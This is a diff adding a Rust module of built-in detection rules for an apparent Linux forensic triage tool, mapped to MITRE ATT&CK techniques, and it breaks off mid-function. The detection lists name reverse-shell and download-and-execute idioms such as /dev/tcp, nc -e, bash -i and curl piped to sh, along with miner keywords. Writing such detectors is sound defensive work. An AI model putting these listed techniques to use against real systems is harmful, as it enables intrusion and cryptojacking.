@@ -1,0 +1,1055 @@
+//! The built-in rules. Each documents what it catches, its MITRE ATT&CK technique and its
+//! known false positives (shown by `dossier rules --long`). Weights and severities are defaults;
+//! the playbook may change them.
+
+use crate::context::{At, Ctx, canonical, program};
+use crate::engine::{AnalysisConfig, BundleInput};
+use aho_corasick::AhoCorasick;
+use dossier_plugin_api::analysis::{Evidence, Finding, Ioc, Severity};
+use dossier_plugin_api::records::UnitRecord;
+
+/// A rule as the engine runs it.
+pub struct RuleInfo {
+    pub id: &'static str,
+    pub title: &'static str,
+    pub mitre: &'static [&'static str],
+    pub severity: Severity,
+    pub weight: u32,
+    /// Collectors whose records the rule reads.
+    pub needs: &'static [&'static str],
+    /// Needs package ownership (a package database in the bundle).
+    pub needs_packages: bool,
+    /// What it catches and its false positives.
+    pub doc: &'static str,
+    pub run: fn(&Ctx, &AnalysisConfig, &mut BundleInput<'_>) -> Vec<Finding>,
+}
+
+/// Every built-in rule, in report order.
+pub static CATALOG: &[RuleInfo] = &[
+    RuleInfo {
+        id: "exec-unusual-path",
+        title: "Executable in an unusual path or disguised as a system name",
+        mitre: &["T1036.005"],
+        severity: Severity::High,
+        weight: 30,
+        needs: &[],
+        needs_packages: false,
+        doc: "A process, unit or cron entry runs a program from /tmp, /var/tmp, /dev/shm, /run, /var/log, /boot or a hidden directory, or an unowned program with a system-looking name or in a system binary directory. FP: self-built tools deliberately run from /run or a dot-directory; vendor agents installed outside the package manager into /usr/bin.",
+        run: exec_unusual_path,
+    },
+    RuleInfo {
+        id: "unit-name-mismatch",
+        title: "Unit name does not match the binary it runs",
+        mitre: &["T1036.004"],
+        severity: Severity::Medium,
+        weight: 10,
+        needs: &["systemd"],
+        needs_packages: false,
+        doc: "A service unit that no package owns runs a program whose name shares nothing with the unit's (python.service running /var/log/log). Interpreters are not judged. FP: local services named after their purpose rather than their binary (backup.service running restic).",
+        run: unit_name_mismatch,
+    },
+    RuleInfo {
+        id: "root-cron-reboot",
+        title: "@reboot entry in root's crontab",
+        mitre: &["T1053.003"],
+        severity: Severity::High,
+        weight: 20,
+        needs: &["cron"],
+        needs_packages: false,
+        doc: "A cron entry with the @reboot schedule runs as root. FP: administrators starting a legacy daemon at boot from cron.",
+        run: root_cron_reboot,
+    },
+    RuleInfo {
+        id: "cron-suspicious-path",
+        title: "System cron directories point at a suspicious path",
+        mitre: &["T1053.003"],
+        severity: Severity::Medium,
+        weight: 10,
+        needs: &["cron"],
+        needs_packages: false,
+        doc: "/etc/crontab, /etc/cron.d or /etc/cron.{hourly,...} run a program from an unusual location or one that no package owns, or hold a script no package owns. FP: site-local maintenance scripts in /usr/local or /etc/cron.daily.",
+        run: cron_suspicious_path,
+    },
+    RuleInfo {
+        id: "exec-unowned",
+        title: "Executable not owned by any installed package",
+        mitre: &["T1105"],
+        severity: Severity::Medium,
+        weight: 15,
+        needs: &["packages"],
+        needs_packages: true,
+        doc: "A program run by a process, unit or cron entry belongs to no installed package. FP: software installed from tarballs, containers' own binaries, language runtimes under /opt.",
+        run: exec_unowned,
+    },
+    RuleInfo {
+        id: "miner-strings",
+        title: "Suspicious strings / miner keywords in an executable",
+        mitre: &["T1496"],
+        severity: Severity::High,
+        weight: 10,
+        needs: &[],
+        needs_packages: false,
+        doc: "A copied executable contains keywords from the playbook (stratum+tcp://, xmrig, --donate-level, pool names), matched case-insensitively with Aho-Corasick. Only executables copied into the bundle are scanned. FP: security tools and miner-detection software that embed the same strings.",
+        run: miner_strings,
+    },
+    RuleInfo {
+        id: "unit-local-unowned",
+        title: "Unit created locally in /etc/systemd/system and not owned by a package",
+        mitre: &["T1543.002"],
+        severity: Severity::Low,
+        weight: 5,
+        needs: &["systemd"],
+        needs_packages: true,
+        doc: "A unit file (not a link) in /etc/systemd/system that no package owns. FP: units written by administrators or configuration management.",
+        run: unit_local_unowned,
+    },
+    RuleInfo {
+        id: "deleted-exe-running",
+        title: "Process running from a deleted executable",
+        mitre: &["T1070.004"],
+        severity: Severity::High,
+        weight: 25,
+        needs: &["proc"],
+        needs_packages: false,
+        doc: "A process's executable was deleted after it started (the copy read through /proc/PID/exe is in the bundle). FP: daemons not restarted after a package upgrade replaced their binary.",
+        run: deleted_exe_running,
+    },
+    RuleInfo {
+        id: "process-masquerade",
+        title: "Process name masquerading (kernel-thread name or argv[0] unlike its executable)",
+        mitre: &["T1036.004", "T1036.005"],
+        severity: Severity::High,
+        weight: 25,
+        needs: &["proc"],
+        needs_packages: false,
+        doc: "A user-space process calls itself like a kernel thread ([kworker/0:1]) or its argv[0] names a different program than its executable. Login shells (-bash), interpreters and daemons that rewrite their title (\"sshd: user\") are not judged. FP: programs that set argv[0] to a role name (busybox applets, some supervisors).",
+        run: process_masquerade,
+    },
+    RuleInfo {
+        id: "package-hash-mismatch",
+        title: "Package binary differs from the package database",
+        mitre: &["T1554"],
+        severity: Severity::Critical,
+        weight: 30,
+        needs: &["packages"],
+        needs_packages: true,
+        doc: "A file that a package owns, and that a process, unit or cron entry runs, hashes differently from the package's digest list. Configuration files under /etc are not judged. FP: binaries patched by hand or by prelink; a corrupted package database.",
+        run: package_hash_mismatch,
+    },
+    RuleInfo {
+        id: "inline-shell-download",
+        title: "Inline shell or download-and-execute in a unit or cron command",
+        mitre: &["T1059.004", "T1105"],
+        severity: Severity::High,
+        weight: 20,
+        needs: &[],
+        needs_packages: false,
+        doc: "A unit's Exec* line or a cron command pipes a download into a shell, uses /dev/tcp, decodes base64, starts an interactive shell or netcat with -e; or (when no package owns the unit or crontab) runs `sh -c`/`bash -c`. FP: installers run from cron by administrators; packaged units using sh -c are not flagged.",
+        run: inline_shell_download,
+    },
+    RuleInfo {
+        id: "aggressive-timer-unowned",
+        title: "Aggressive timer on a unit no package owns",
+        mitre: &["T1053.006"],
+        severity: Severity::Medium,
+        weight: 15,
+        needs: &["systemd"],
+        needs_packages: true,
+        doc: "A timer that no package owns fires every few minutes or less (OnUnitActiveSec/OnBootSec up to 5 min, minutely calendars). FP: local monitoring timers.",
+        run: aggressive_timer,
+    },
+    RuleInfo {
+        id: "interpreter-listening",
+        title: "Shell or interpreter listening on a socket",
+        mitre: &["T1059"],
+        severity: Severity::High,
+        weight: 20,
+        needs: &["sockets"],
+        needs_packages: false,
+        doc: "A listening TCP/UDP socket belongs to a shell, netcat/socat or a script interpreter (bind shell). FP: development servers (python -m http.server), Node/Ruby application servers.",
+        run: interpreter_listening,
+    },
+    RuleInfo {
+        id: "suspicious-port",
+        title: "Listener on or connection to a known miner/backdoor port",
+        mitre: &["T1571"],
+        severity: Severity::Medium,
+        weight: 15,
+        needs: &["sockets"],
+        needs_packages: false,
+        doc: "A socket listens on, or is connected to a remote, port in the playbook's list (stratum pools 3333/4444/5555/7777/14444/45700, backdoors 1337/31337, IRC 6667). FP: legitimate services configured on those ports.",
+        run: suspicious_port,
+    },
+    RuleInfo {
+        id: "ld-preload-process",
+        title: "LD_PRELOAD in a running process",
+        mitre: &["T1574.006"],
+        severity: Severity::Medium,
+        weight: 20,
+        needs: &["proc"],
+        needs_packages: false,
+        doc: "A process runs with LD_PRELOAD set (library injection, userland rootkits). FP: profilers, fakeroot, jemalloc/tcmalloc preloads, some accessibility tools.",
+        run: ld_preload,
+    },
+];
+
+fn finding(
+    subject: impl Into<String>,
+    explanation: impl Into<String>,
+    evidence: Vec<Evidence>,
+    iocs: Vec<Ioc>,
+) -> Finding {
+    Finding {
+        rule: String::new(),
+        title: String::new(),
+        mitre: vec![],
+        severity: Severity::Info,
+        weight: 0,
+        explanation: explanation.into(),
+        subject: subject.into(),
+        evidence,
+        iocs,
+    }
+}
+
+fn base(path: &str) -> &str {
+    path.rsplit('/').next().unwrap_or(path)
+}
+
+const UNUSUAL_DIRS: &[&str] = &[
+    "/tmp/",
+    "/var/tmp/",
+    "/dev/shm/",
+    "/run/",
+    "/var/run/",
+    "/var/log/",
+    "/boot/",
+    "/dev/",
+];
+const SYSTEM_BIN_DIRS: &[&str] = &[
+    "/usr/bin/",
+    "/usr/sbin/",
+    "/usr/lib/",
+    "/usr/libexec/",
+    "/usr/lib64/",
+    "/usr/local/bin/",
+    "/usr/local/sbin/",
+    "/",
+];
+const DISGUISE_NAMES: &[&str] = &[
+    "log",
+    "kworker",
+    "kthreadd",
+    "ksoftirqd",
+    "kswapd0",
+    "kdevtmpfs",
+    "systemd",
+    "systemd-journald",
+    "sshd",
+    "crond",
+    "cron",
+    "atd",
+    "dbus-daemon",
+    "rsyslogd",
+    "syslogd",
+    "udevd",
+    "init",
+    "python",
+    "python3",
+    "perl",
+    "httpd",
+    "nginx",
+    "mysqld",
+    "ntpd",
+    "sysupdate",
+    "networkservice",
+    "watchdog",
+    "migration",
+];
+const INTERPRETERS: &[&str] = &[
+    "sh", "bash", "dash", "zsh", "ksh", "csh", "tcsh", "ash", "busybox", "python", "python2",
+    "python3", "perl", "ruby", "php", "node", "nodejs", "java", "lua", "tclsh", "nc", "ncat",
+    "netcat", "socat",
+];
+
+fn is_interpreter(name: &str) -> bool {
+    let n = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
+    INTERPRETERS.contains(&name)
+        || INTERPRETERS.contains(&n)
+        || n.starts_with("python")
+        || n.starts_with("php")
+}
+
+/// Why a path is an unusual place for a program, if it is.
+pub fn unusual_location(path: &str) -> Option<String> {
+    if let Some(d) = UNUSUAL_DIRS.iter().find(|d| path.starts_with(*d)) {
+        return Some(format!("it lives in {}", d.trim_end_matches('/')));
+    }
+    if path
+        .split('/')
+        .any(|c| c.starts_with('.') && c != "." && c != "..")
+    {
+        return Some("its path has a hidden (dot) component".into());
+    }
+    None
+}
+
+/// Programs run by processes, units and cron entries: (path, referrer, evidence).
+fn referenced_programs(ctx: &Ctx) -> Vec<(String, String, Vec<Evidence>)> {
+    let mut out = Vec::new();
+    for p in &ctx.procs {
+        if let (Some(exe), false) = (&p.rec.exe, p.rec.kernel_thread) {
+            out.push((
+                exe.clone(),
+                format!("process {} ({})", p.rec.pid, p.rec.comm),
+                ctx.ev(p, format!("process {}", p.rec.pid), None),
+            ));
+        }
+    }
+    for u in &ctx.units {
+        for cmd in unit_commands(&u.rec) {
+            if let Some(prog) = program(cmd) {
+                out.push((
+                    prog,
+                    format!("unit {}", u.rec.name),
+                    ctx.ev(u, format!("unit {}", u.rec.name), Some(&u.rec.source)),
+                ));
+            }
+        }
+    }
+    for c in &ctx.cron {
+        for prog in segment_programs(&c.rec.command) {
+            out.push((
+                prog,
+                format!("cron {}:{}", c.rec.source.path, c.rec.line),
+                ctx.ev(
+                    c,
+                    format!("cron entry {}:{}", c.rec.source.path, c.rec.line),
+                    Some(&c.rec.source),
+                ),
+            ));
+        }
+    }
+    out
+}
+
+fn unit_commands(u: &UnitRecord) -> impl Iterator<Item = &String> {
+    u.exec_start
+        .iter()
+        .chain(&u.exec_start_pre)
+        .chain(&u.exec_start_post)
+        .chain(&u.exec_stop)
+        .chain(&u.exec_reload)
+}
+
+/// Programs of each segment of a shell command line (split at `;`, `&&`, `||`, `|`).
+pub fn segment_programs(cmd: &str) -> Vec<String> {
+    cmd.split([';', '|', '&', '(', ')', '`'])
+        .filter_map(program)
+        .collect()
+}
+
+fn exec_unusual_path(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) -> Vec<Finding> {
+    let mut out = Vec::new();
+    for (path, who, ev) in referenced_programs(ctx) {
+        let owned = ctx.has_package_db && ctx.is_owned(&path);
+        let why = unusual_location(&path).or_else(|| {
+            // Only judge names and places of files known to exist (a missing file is no binary).
+            if !ctx.has_package_db
+                || owned
+                || ctx
+                    .verified(&path)
+                    .is_some_and(|v| v.rec.status == "missing")
+            {
+                return None;
+            }
+            let c = canonical(&path);
+            if DISGUISE_NAMES.contains(&base(&path)) {
+                Some(format!(
+                    "no package owns it and its name imitates the system program `{}`",
+                    base(&path)
+                ))
+            } else if SYSTEM_BIN_DIRS.iter().any(|d| {
+                c.starts_with(d)
+                    && c[d.len()..]
+                        .find('/')
+                        .is_none_or(|_| d.starts_with("/usr/lib"))
+            }) && !c.starts_with("/usr/local/")
+            {
+                Some("no package owns it, yet it sits in a system binary directory".into())
+            } else {
+                None
+            }
+        });
+        if let Some(why) = why {
+            let sha = ctx.verified(&path).and_then(|v| v.rec.sha256.clone());
+            let mut iocs = vec![Ioc::Path(path.clone())];
+            iocs.extend(sha.map(Ioc::Sha256));
+            out.push(finding(
+                &path,
+                format!("{who} runs {path}: {why}"),
+                ev,
+                iocs,
+            ));
+        }
+    }
+    out
+}
+
+fn tokens(s: &str) -> Vec<String> {
+    s.to_ascii_lowercase()
+        .split(|c: char| !c.is_ascii_alphanumeric())
+        .filter(|t| t.len() >= 3)
+        .map(|t| t.trim_end_matches(|c: char| c.is_ascii_digit()).to_string())
+        .filter(|t| t.len() >= 3)
+        .collect()
+}
+
+/// Whether a unit name and a program name plausibly belong together.
+pub fn names_match(unit: &str, prog: &str) -> bool {
+    let stem = unit
+        .rsplit_once('.')
+        .map_or(unit, |(s, _)| s)
+        .split('@')
+        .next()
+        .unwrap_or(unit)
+        .to_ascii_lowercase();
+    let p = prog.to_ascii_lowercase();
+    if stem.contains(&p) || p.contains(&stem) {
+        return true;
+    }
+    let (a, b) = (tokens(&stem), tokens(&p));
+    a.iter().any(|x| {
+        b.iter()
+            .any(|y| x.contains(y.as_str()) || y.contains(x.as_str()))
+    })
+}
+
+fn unit_name_mismatch(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) -> Vec<Finding> {
+    let mut out = Vec::new();
+    for u in ctx.units.iter().filter(|u| u.rec.unit_type == "service") {
+        if ctx.has_package_db && ctx.is_owned(&u.rec.path) {
+            continue;
+        }
+        let Some(prog) = u.rec.exec_start.first().and_then(|c| program(c)) else {
+            continue;
+        };
+        let b = base(&prog);
+        if is_interpreter(b) || names_match(&u.rec.name, b) {
+            continue;
+        }
+        out.push(finding(
+            &u.rec.name,
+            format!(
+                "unit {} runs {prog}, a binary whose name has nothing in common with the unit's",
+                u.rec.name
+            ),
+            ctx.ev(u, format!("unit {}", u.rec.name), Some(&u.rec.source)),
+            vec![Ioc::Unit(u.rec.name.clone()), Ioc::Path(prog.clone())],
+        ));
+    }
+    out
+}
+
+fn root_cron_reboot(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) -> Vec<Finding> {
+    ctx.cron
+        .iter()
+        .filter(|c| c.rec.special.as_deref() == Some("reboot") && c.rec.run_as == "root")
+        .map(|c| {
+            let src = &c.rec.source.path;
+            finding(
+                format!("{src}:{}", c.rec.line),
+                format!(
+                    "{src} line {} runs `{}` as root at every boot (@reboot)",
+                    c.rec.line, c.rec.command
+                ),
+                ctx.ev(
+                    c,
+                    format!("cron entry {src}:{}", c.rec.line),
+                    Some(&c.rec.source),
+                ),
+                vec![Ioc::CronCommand(c.rec.command.clone())],
+            )
+        })
+        .collect()
+}
+
+fn suspicious_path(ctx: &Ctx, path: &str) -> Option<String> {
+    if path == "/dev/null" {
+        return None;
+    }
+    unusual_location(path).or_else(|| {
+        (ctx.has_package_db && !ctx.is_owned(path)).then(|| "no package owns it".to_string())
+    })
+}
+
+fn cron_suspicious_path(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) -> Vec<Finding> {
+    let mut out = Vec::new();
+    for c in ctx.cron.iter().filter(|c| c.rec.format != "user") {
+        for prog in segment_programs(&c.rec.command) {
+            if let Some(why) = suspicious_path(ctx, &prog) {
+                let src = &c.rec.source.path;
+                out.push(finding(
+                    format!("{src}:{}", c.rec.line),
+                    format!("{src} line {} runs {prog}: {why}", c.rec.line),
+                    ctx.ev(
+                        c,
+                        format!("cron entry {src}:{}", c.rec.line),
+                        Some(&c.rec.source),
+                    ),
+                    vec![
+                        Ioc::Path(prog.clone()),
+                        Ioc::CronCommand(c.rec.command.clone()),
+                    ],
+                ));
+            }
+        }
+    }
+    for s in ctx.cron_scripts.iter().filter(|s| s.rec.runs) {
+        let target = s
+            .rec
+            .link_target
+            .clone()
+            .unwrap_or_else(|| s.rec.path.clone());
+        let why = unusual_location(&target).or_else(|| {
+            (ctx.has_package_db && !ctx.is_owned(&s.rec.path) && !ctx.is_owned(&target))
+                .then(|| "no package owns it".to_string())
+        });
+        if let Some(why) = why {
+            out.push(finding(
+                &s.rec.path,
+                format!("cron.{} runs {}: {why}", s.rec.period, s.rec.path),
+                ctx.ev(
+                    s,
+                    format!("cron script {}", s.rec.path),
+                    s.rec.source.as_ref(),
+                ),
+                vec![Ioc::Path(s.rec.path.clone())],
+            ));
+        }
+    }
+    out
+}
+
+fn exec_unowned(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) -> Vec<Finding> {
+    ctx.verify
+        .iter()
+        .filter(|v| v.rec.status == "not_owned")
+        .map(|v| {
+            let mut iocs = vec![Ioc::Path(v.rec.path.clone())];
+            iocs.extend(v.rec.sha256.clone().map(Ioc::Sha256));
+            let mut ev = ctx.ev(
+                v,
+                format!("package verification of {}", v.rec.path),
+                v.rec.copy.as_ref(),
+            );
+            ev.dedup_by(|a, b| a.member == b.member);
+            finding(
+                &v.rec.path,
+                format!(
+                    "{} (run by {}) is not owned by any installed package",
+                    v.rec.path,
+                    v.rec.referenced_by.join(", ")
+                ),
+                ev,
+                iocs,
+            )
+        })
+        .collect()
+}
+
+fn miner_strings(ctx: &Ctx, cfg: &AnalysisConfig, input: &mut BundleInput<'_>) -> Vec<Finding> {
+    let Ok(ac) = AhoCorasick::builder()
+        .ascii_case_insensitive(true)
+        .build(&cfg.keywords)
+    else {
+        return vec![];
+    };
+    // (member, path, sha) of every executable copy in the bundle.
+    let mut copies: Vec<(String, String, Option<String>)> = Vec::new();
+    for p in &ctx.procs {
+        if let (Some(m), Some(exe)) = (&p.rec.exe_member, &p.rec.exe) {
+            copies.push((m.clone(), exe.clone(), p.rec.exe_sha256.clone()));
+        }
+    }
+    for v in &ctx.verify {
+        if let Some(m) = v.rec.copy.as_ref().and_then(|c| c.member.clone()) {
+            copies.push((m, v.rec.path.clone(), v.rec.sha256.clone()));
+        }
+    }
+    copies.sort();
+    copies.dedup_by(|a, b| a.0 == b.0);
+    let mut out = Vec::new();
+    for (member, path, sha) in copies {
+        let Ok(data) = (input.read_member)(&member, cfg.max_scan_bytes) else {
+            continue;
+        };
+        let mut hits: Vec<&str> = ac
+            .find_overlapping_iter(&data)
+            .map(|m| cfg.keywords[m.pattern().as_usize()].as_str())
+            .collect();
+        hits.sort();
+        hits.dedup();
+        if hits.is_empty() {
+            continue;
+        }
+        let ev = ctx
+            .member_ev(&member, format!("copy of {path}"))
+            .into_iter()
+            .collect();
+        let mut iocs = vec![Ioc::Path(path.clone())];
+        iocs.extend(sha.map(Ioc::Sha256));
+        out.push(finding(
+            &path,
+            format!(
+                "{path} contains {}",
+                hits.iter()
+                    .map(|h| format!("`{h}`"))
+                    .collect::<Vec<_>>()
+                    .join(", ")
+            ),
+            ev,
+            iocs,
+        ));
+    }
+    out
+}
+
+fn unit_local_unowned(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) -> Vec<Finding> {
+    ctx.units
+        .iter()
+        .filter(|u| {
+            u.rec.unit_dir == "/etc/systemd/system"
+                && u.rec.link_target.is_none()
+                && !u.rec.masked
+                && !ctx.is_owned(&u.rec.path)
+        })
+        .map(|u| {
+            finding(
+                &u.rec.name,
+                format!(
+                    "unit {} was created in /etc/systemd/system and no package owns it",
+                    u.rec.name
+                ),
+                ctx.ev(u, format!("unit {}", u.rec.name), Some(&u.rec.source)),
+                vec![Ioc::Unit(u.rec.name.clone()), Ioc::Path(u.rec.path.clone())],
+            )
+        })
+        .collect()
+}
+
+fn proc_iocs(p: &At<dossier_plugin_api::records::ProcessRecord>) -> Vec<Ioc> {
+    let mut v = vec![Ioc::Pid(p.rec.pid)];
+    v.extend(p.rec.exe.clone().map(Ioc::Path));
+    v.extend(p.rec.exe_sha256.clone().map(Ioc::Sha256));
+    v
+}
+
+fn proc_ev(ctx: &Ctx, p: &At<dossier_plugin_api::records::ProcessRecord>) -> Vec<Evidence> {
+    let mut ev = ctx.ev(p, format!("process {} ({})", p.rec.pid, p.rec.comm), None);
+    if let Some(m) = &p.rec.exe_member {
+        ev.extend(ctx.member_ev(
+            m,
+            format!("copy of the executable of process {}", p.rec.pid),
+        ));
+    }
+    ev
+}
+
+fn deleted_exe_running(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) -> Vec<Finding> {
+    ctx.procs
+        .iter()
+        .filter(|p| p.rec.exe_deleted && !p.rec.kernel_thread)
+        .map(|p| {
+            finding(
+                format!("pid {}", p.rec.pid),
+                format!(
+                    "process {} ({}) runs {}, which was deleted from disk",
+                    p.rec.pid,
+                    p.rec.comm,
+                    p.rec.exe.as_deref().unwrap_or("?")
+                ),
+                proc_ev(ctx, p),
+                proc_iocs(p),
+            )
+        })
+        .collect()
+}
+
+fn process_masquerade(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) -> Vec<Finding> {
+    let mut out = Vec::new();
+    for p in ctx.procs.iter().filter(|p| !p.rec.kernel_thread) {
+        let Some(exe) = &p.rec.exe else { continue };
+        let arg0 = p.rec.argv.first().map(String::as_str).unwrap_or("");
+        let ebase = base(exe);
+        let why = if (arg0.starts_with('[') && arg0.ends_with(']'))
+            || (p.rec.comm.starts_with('[') && p.rec.comm.ends_with(']'))
+            || (p.rec.comm.starts_with("kworker") && !ebase.starts_with("kworker"))
+        {
+            Some(format!(
+                "calls itself `{}` like a kernel thread but runs {exe}",
+                if arg0.is_empty() { &p.rec.comm } else { arg0 }
+            ))
+        } else {
+            let a = base(arg0.trim_start_matches('-'));
+            let judged = !arg0.is_empty()
+                && !arg0.contains(' ')
+                && !arg0.contains(':')
+                && !is_interpreter(ebase)
+                && !is_interpreter(a);
+            (judged
+                && !a.is_empty()
+                && !ebase.starts_with(a)
+                && !a.starts_with(ebase)
+                && !names_match(a, ebase))
+            .then(|| format!("argv[0] is `{arg0}` but the executable is {exe}"))
+        };
+        if let Some(why) = why {
+            out.push(finding(
+                format!("pid {}", p.rec.pid),
+                format!("process {} {why}", p.rec.pid),
+                proc_ev(ctx, p),
+                proc_iocs(p),
+            ));
+        }
+    }
+    out
+}
+
+fn package_hash_mismatch(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) -> Vec<Finding> {
+    ctx.verify
+        .iter()
+        .filter(|v| v.rec.status == "mismatch" && !v.rec.path.starts_with("/etc/"))
+        .map(|v| {
+            let mut iocs = vec![Ioc::Path(v.rec.path.clone())];
+            iocs.extend(v.rec.sha256.clone().map(Ioc::Sha256));
+            let pkg = v.rec.package.as_deref().unwrap_or("?");
+            let mut ev = ctx.ev(
+                v,
+                format!("package verification of {}", v.rec.path),
+                v.rec.copy.as_ref(),
+            );
+            ev.extend(v.rec.digest_source.as_ref().and_then(|d| {
+                Some(Evidence {
+                    member: d.member.clone()?,
+                    sha256: d.sha256.clone()?,
+                    line: None,
+                    what: format!("digest list of package {pkg}"),
+                })
+            }));
+            finding(
+                &v.rec.path,
+                format!(
+                    "{} from package {pkg} hashes to {} but the package says {}",
+                    v.rec.path,
+                    v.rec.actual.as_deref().unwrap_or("?"),
+                    v.rec.expected.as_deref().unwrap_or("?")
+                ),
+                ev,
+                iocs,
+            )
+        })
+        .collect()
+}
+
+const STRONG_SHELL: &[&str] = &[
+    "/dev/tcp/",
+    "/dev/udp/",
+    "base64 -d",
+    "base64 --decode",
+    "base64 -di",
+    "bash -i",
+    "sh -i",
+    "nc -e",
+    "ncat -e",
+    "nc -c",
+    "mkfifo",
+    "python -c",
+    "python3 -c",
+    "perl -e",
+    "eval $(",
+    "| sh",
+    "|sh",
+    "| bash",
+    "|bash",
+    "wget -q -o -",
+    "wget -qo-",
+    "curl -s",
+    "curl -fssl",
+    "chmod +x /tmp",
+    "chmod 777 /tmp",
+];
+
+/// Why a command line looks like inline shell or download-and-execute, if it does.
+pub fn shell_pattern(cmd: &str, owned: bool) -> Option<String> {
+    let l = cmd.to_ascii_lowercase();
+    let downloads = l.contains("curl ") || l.contains("wget ") || l.contains("fetch ");
+    if downloads
+        && (l.contains("| sh")
+            || l.contains("|sh")
+            || l.contains("| bash")
+            || l.contains("|bash")
+            || l.contains("chmod +x"))
+    {
+        return Some("downloads and executes".into());
+    }
+    if let Some(p) = STRONG_SHELL.iter().find(|p| l.contains(*p)) {
+        return Some(format!("uses `{}`", p.trim()));
+    }
+    if !owned && (l.contains("sh -c") || l.contains("bash -c")) {
+        return Some("runs an inline shell script (`sh -c`)".into());
+    }
+    None
+}
+
+fn inline_shell_download(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) -> Vec<Finding> {
+    let mut out = Vec::new();
+    for u in &ctx.units {
+        let owned = ctx.has_package_db && ctx.is_owned(&u.rec.path);
+        for cmd in unit_commands(&u.rec) {
+            if let Some(why) = shell_pattern(cmd, owned) {
+                out.push(finding(
+                    &u.rec.name,
+                    format!("unit {} {why}: `{cmd}`", u.rec.name),
+                    ctx.ev(u, format!("unit {}", u.rec.name), Some(&u.rec.source)),
+                    vec![Ioc::Unit(u.rec.name.clone())],
+                ));
+            }
+        }
+    }
+    for c in &ctx.cron {
+        let owned = ctx.has_package_db && ctx.is_owned(&c.rec.source.path);
+        if let Some(why) = shell_pattern(&c.rec.command, owned) {
+            let src = &c.rec.source.path;
+            out.push(finding(
+                format!("{src}:{}", c.rec.line),
+                format!("{src} line {} {why}: `{}`", c.rec.line, c.rec.command),
+                ctx.ev(
+                    c,
+                    format!("cron entry {src}:{}", c.rec.line),
+                    Some(&c.rec.source),
+                ),
+                vec![Ioc::CronCommand(c.rec.command.clone())],
+            ));
+        }
+    }
+    out
+}
+
+/// Seconds of a systemd time span (`5min`, `30s`, `1h 5min`, `300`), when parseable.
+pub fn span_seconds(s: &str) -> Option<u64> {
+    let mut total = 0u64;
+    let mut any = false;
+    for part in s.split_whitespace() {
+        let idx = part
+            .find(|c: char| !c.is_ascii_digit())
+            .unwrap_or(part.len());
+        let (n, unit) = part.split_at(idx);
+        let n: u64 = n.parse().ok()?;
+        let mult = match unit {
+            "" | "s" | "sec" | "second" | "seconds" => 1,
+            "m" | "min" | "minute" | "minutes" => 60,
+            "h" | "hr" | "hour" | "hours" => 3600,
+            "d" | "day" | "days" => 86400,
+            "ms" | "msec" => 0,
+            _ => return None,
+        };
+        total += n * mult;
+        any = true;
+    }
+    any.then_some(total)
+}
+
+fn aggressive_timer(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) -> Vec<Finding> {
+    let mut out = Vec::new();
+    for u in ctx
+        .units
+        .iter()
+        .filter(|u| u.rec.unit_type == "timer" && !ctx.is_owned(&u.rec.path))
+    {
+        let Some(t) = &u.rec.timer else { continue };
+        let short = t
+            .on_unit_active_sec
+            .iter()
+            .chain(&t.on_boot_sec)
+            .chain(&t.on_active_sec)
+            .chain(&t.on_startup_sec)
+            .chain(&t.on_unit_inactive_sec)
+            .find(|s| span_seconds(s).is_some_and(|n| n <= 300));
+        let cal = t.on_calendar.iter().find(|c| {
+            let c = c.to_ascii_lowercase();
+            c == "minutely"
+                || c.contains("*:*")
+                || c.contains(":0/")
+                || c.contains("*:0/")
+                || c.ends_with("/1")
+                || c.ends_with("/5")
+        });
+        if let Some(s) = short.or(cal) {
+            out.push(finding(
+                &u.rec.name,
+                format!(
+                    "timer {} (no package owns it) starts {} every `{s}`",
+                    u.rec.name, t.unit
+                ),
+                ctx.ev(u, format!("timer {}", u.rec.name), Some(&u.rec.source)),
+                vec![Ioc::Unit(u.rec.name.clone()), Ioc::Unit(t.unit.clone())],
+            ));
+        }
+    }
+    out
+}
+
+fn interpreter_listening(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) -> Vec<Finding> {
+    let mut out = Vec::new();
+    for s in ctx.sockets.iter().filter(|s| s.rec.listening) {
+        for name in s.rec.processes.iter().filter(|n| is_interpreter(n)) {
+            let mut iocs = vec![Ioc::Port(s.rec.local_port)];
+            iocs.extend(s.rec.pids.iter().map(|p| Ioc::Pid(*p)));
+            out.push(finding(
+                format!("{}/{}", s.rec.protocol, s.rec.local_port),
+                format!(
+                    "{name} (pid {}) listens on {} {}:{}",
+                    s.rec
+                        .pids
+                        .iter()
+                        .map(u32::to_string)
+                        .collect::<Vec<_>>()
+                        .join(","),
+                    s.rec.protocol,
+                    s.rec.local_addr,
+                    s.rec.local_port
+                ),
+                ctx.ev(
+                    s,
+                    format!("socket {}:{}", s.rec.local_addr, s.rec.local_port),
+                    Some(&s.rec.source),
+                ),
+                iocs,
+            ));
+        }
+    }
+    out
+}
+
+fn suspicious_port(ctx: &Ctx, cfg: &AnalysisConfig, _: &mut BundleInput<'_>) -> Vec<Finding> {
+    let mut out = Vec::new();
+    for s in &ctx.sockets {
+        let procs = if s.rec.processes.is_empty() {
+            "unknown process".to_string()
+        } else {
+            s.rec.processes.join(",")
+        };
+        if s.rec.listening && cfg.suspicious_ports.contains(&s.rec.local_port) {
+            out.push(finding(
+                format!("{}/{}", s.rec.protocol, s.rec.local_port),
+                format!(
+                    "{procs} listens on {} port {}, a known miner/backdoor port",
+                    s.rec.protocol, s.rec.local_port
+                ),
+                ctx.ev(
+                    s,
+                    format!("socket {}:{}", s.rec.local_addr, s.rec.local_port),
+                    Some(&s.rec.source),
+                ),
+                vec![Ioc::Port(s.rec.local_port)],
+            ));
+        } else if !s.rec.listening
+            && s.rec.remote_port != 0
+            && cfg.suspicious_ports.contains(&s.rec.remote_port)
+        {
+            out.push(finding(
+                format!("{}:{}", s.rec.remote_addr, s.rec.remote_port),
+                format!(
